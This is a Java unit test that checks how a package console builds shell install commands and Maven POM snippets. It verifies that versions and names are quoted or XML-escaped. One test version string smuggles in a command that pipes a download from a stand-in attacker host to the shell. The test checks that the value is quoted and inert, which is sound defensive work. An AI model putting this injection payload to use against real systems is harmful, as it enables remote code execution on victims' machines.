package dev.wharf.console;

import static org.assertj.core.api.Assertions.assertThat;

import dev.wharf.console.ConsoleViews.PackageRef;
import org.junit.jupiter.api.Test;

class InstallLinesTest {
  @Test
  void namesAndVersionsAreQuotedForTheShellAndThePom() {
    PackageRef generic = new PackageRef("111122223333", "acme", "app", "generic", "tools", "x");
    assertThat(InstallLines.of(generic, "1$(curl evil.example|sh)"))
        .endsWith("--package-version '1$(curl evil.example|sh)'");
    assertThat(InstallLines.of(generic, "it's")).endsWith("--package-version 'it'\\''s'");
    assertThat(InstallLines.of(new PackageRef("1", "d", "r", "npm", "scope", "left-pad"), "1.3.0"))
        .isEqualTo("npm install @scope/left-pad@1.3.0");
    assertThat(InstallLines.of(new PackageRef("1", "d", "r", "maven", "com.example", "a<b>"), "1&2"))
        .contains("<artifactId>a&lt;b&gt;</artifactId>", "<version>1&amp;2</version>");
  }
}
